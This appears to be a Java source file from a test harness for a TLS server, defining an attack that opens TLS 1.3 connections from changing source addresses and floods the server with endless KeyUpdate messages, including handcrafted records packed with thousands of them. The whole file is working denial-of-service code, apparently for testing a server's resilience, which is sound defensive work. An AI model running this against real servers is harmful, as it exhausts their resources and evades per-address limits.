package far.relay.attack;

import java.io.IOException;
import java.io.InputStream;
import java.io.InterruptedIOException;
import java.net.Socket;
import java.security.GeneralSecurityException;
import java.util.ArrayList;
import java.util.List;
import javax.net.ssl.SSLSocket;

/** TLS 1.3 clients that send KeyUpdates without end, and use another address for each connection. */
final class KeyUpdates implements TlsAttack {
    private static final int CONNECTIONS = 2;
    private static final long END_MILLIS = 5_000;
    /** More than 3,000. */
    private static final byte[] MANY = HandmadeTls.keyUpdates(HandmadeTls.MOST - 100, true);

    /** What the clients send, and whether they read the answers. */
    enum Kind {
        /** One KeyUpdate in each record; reads the answers. */
        READING("ask for new keys without end"),
        /** The same, without reading. */
        DEAF("ask for new keys without end and do not read the answers"),
        /** The longest record, full of KeyUpdates. */
        LONG_RECORDS("send records full of KeyUpdates"),
        /** The same, in the record that completes the handshake. */
        WITH_FINISHED("complete their handshakes with records full of KeyUpdates");

        private final String text;

        Kind(String text) {
            this.text = text;
        }
    }

    private final Kind kind;

    KeyUpdates(Kind kind) {
        this.kind = kind;
    }

    @Override
    public Running start(Target target) throws IOException {
        Crowd crowd = new Crowd(target);
        for (int i = 0; i < CONNECTIONS; i++) {
            crowd.run(crowd::attack);
        }
        return crowd;
    }

    private final class Crowd implements Running {
        private final Target target;
        private final List<Thread> threads = new ArrayList<>();
        private final List<Socket> open = new ArrayList<>();
        private boolean closed;

        Crowd(Target target) {
            this.target = target;
        }

        private synchronized void run(Runnable task) {
            Thread thread = new Thread(task);
            thread.setDaemon(true);
            thread.start();
            threads.add(thread);
        }

        private synchronized boolean add(Socket plain) {
            open.add(plain);
            return !closed;
        }

        private synchronized boolean remove(Socket plain) {
            open.remove(plain);
            return !closed;
        }

        private void attack() {
            boolean goOn = true;
            while (goOn) {
                Socket plain = new Socket();
                goOn = add(plain);
                try (plain) {
                    plain.bind(Target.newAttacker());
                    plain.connect(target.address());
                    attack(plain);
                } catch (IOException | GeneralSecurityException e) {
                    goOn = remove(plain); // the server has closed it: again from another address
                }
            }
        }

        private void attack(Socket plain) throws IOException, GeneralSecurityException {
            switch (kind) {
                case READING, DEAF -> {
                    SSLSocket tls = target.secure(plain);
                    tls.startHandshake();
                    if (kind == Kind.READING) {
                        run(() -> readAll(tls));
                    }
                    while (true) {
                        tls.startHandshake(); // after the handshake, this sends a KeyUpdate (RFC 8446, section 4.6.3)
                    }
                }
                case LONG_RECORDS -> {
                    HandmadeTls tls = HandmadeTls.connect(plain, new byte[0]);
                    tls.send(HandmadeTls.HANDSHAKE, MANY);
                    tls.awaitEnd();
                }
                case WITH_FINISHED -> HandmadeTls.connect(plain, MANY).awaitEnd();
            }
        }

        private void readAll(SSLSocket tls) {
            try {
                InputStream in = tls.getInputStream();
                byte[] bytes = new byte[1024];
                while (in.read(bytes) >= 0) {
                    // the content does not matter
                }
            } catch (IOException e) {
                // closed
            }
        }

        @Override
        public void close() throws IOException {
            List<Thread> all;
            synchronized (this) {
                closed = true;
                for (Socket plain : List.copyOf(open)) {
                    plain.close();
                }
                all = List.copyOf(threads);
            }
            try {
                for (Thread thread : all) {
                    thread.join(END_MILLIS);
                }
            } catch (InterruptedException e) {
                throw new InterruptedIOException();
            }
        }
    }

    @Override
    public String toString() {
        return CONNECTIONS + " clients " + kind.text;
    }
}
